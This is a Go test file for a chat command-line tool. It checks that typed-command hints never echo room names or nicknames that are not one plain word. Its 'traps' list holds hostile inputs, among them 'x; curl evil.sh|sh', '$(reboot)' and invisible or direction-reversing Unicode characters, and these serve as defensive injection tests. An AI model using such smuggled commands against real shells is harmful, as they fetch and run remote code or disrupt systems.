package cli

import (
	"context"
	"strings"
	"testing"

	"localchat/cli/internal/clitest"
	"localchat/cli/internal/command"
	"localchat/cli/internal/fail"
	"localchat/cli/internal/render"
	"localchat/cli/internal/safe"
	"localchat/node"
)

// traps are names that a shell, or a command of the console, would not read as one plain word.
var traps = []string{
	"x; curl evil.sh|sh", "`reboot`", "$(reboot)", "a b", "-rf", "--help", "a\nb", "a\u2028b", "x&", "a>b", "'", `"`, "*", "~root", "#x", "!!", "a\\b", "{a,b}",
	"\u202ebal", "la\u200bb", "\u3164", "la\u3164b", "", "x|y", "a=b", "%PATH%", "a\tb", "[x]", "?", "(x)",
}

// TestHintsHaveNoNameThatIsMore: a hint with a line to type contains a name only if the name is one plain word; otherwise it contains
// the ID.
func TestHintsHaveNoNameThatIsMore(t *testing.T) {
	for _, trap := range traps {
		var hints []string
		for _, body := range clitest.Events() {
			ev := node.Event{Room: clitest.LabID, RoomName: trap, Body: body}
			if err := command.Ending(ev); err != nil {
				hints = append(hints, err.(*fail.Error).Hint)
			}
			if r, ok := body.(node.Removed); ok {
				hints = append(hints, string(render.AfterRemoval(r, render.RoomWord(trap, clitest.LabID), "/")))
			}
		}
		line, _ := render.View{}.Text(node.Event{Body: node.Knock{Peer: clitest.DaveID, Nick: trap, Words: "a b"}})
		_, hint, _ := strings.Cut(string(line), "a b; ")
		hints = append(hints, hint)
		f := clitest.NewNode()
		f.MemberList = []node.MemberInfo{{Peer: clitest.DaveID, Nick: trap, Role: "member"}, {Peer: clitest.AliceID, Nick: trap, Role: "member"}}
		_, several := node.FindWho(trap, "in lab", []node.Named{{Peer: clitest.DaveID, Nick: trap}, {Peer: clitest.AliceID, Nick: trap}})
		_, choose, _ := fail.Explain(several)
		hints = append(hints, choose)
		f.MemberList = f.MemberList[:1]
		c := command.Call{Node: f, Args: []string{clitest.DaveID.String()}, Room: command.Room{ID: clitest.LabID.String(), Name: trap, Owned: true}, Table: command.Table()}
		for _, run := range []func(context.Context, command.Call) (command.Reply, error){runOf("whois"), runOf("verify"), runOf("members")} {
			r, err := run(t.Context(), c)
			if err != nil {
				t.Fatal(err)
			}
			for _, line := range r.Lines {
				if rest, ok := strings.CutPrefix(string(line), "hint: "); ok {
					hints = append(hints, rest)
				}
			}
		}
		if r, err := command.CreateRoom(t.Context(), f, node.CreateOptions{Name: trap}); err == nil {
			_, rest, _ := strings.Cut(string(r.Lines[0]), "localchat join ")
			hints = append(hints, rest)
		}
		if len(hints) < 10 {
			t.Fatalf("there are only the hints %q", hints)
		}
		for _, hint := range hints {
			word := string(safe.Name(trap))
			if len(word) > 1 && strings.Contains(hint, word) && !strings.Contains("a b", word) || strings.ContainsAny(hint, "`$|&\n\t\u2028'\"*{}<>\\") {
				t.Errorf("the name %q is in the hint %q", trap, hint)
			}
		}
	}
	for name, want := range map[string]bool{"lab": true, "labör-2.1_x": true, "実験室": true, "lab three": false, "": false, "-x": false} {
		if got := string(render.RoomWord(name, clitest.LabID)) == name && name != ""; got != want {
			t.Errorf("%q is typed as %q", name, render.RoomWord(name, clitest.LabID))
		}
	}
}
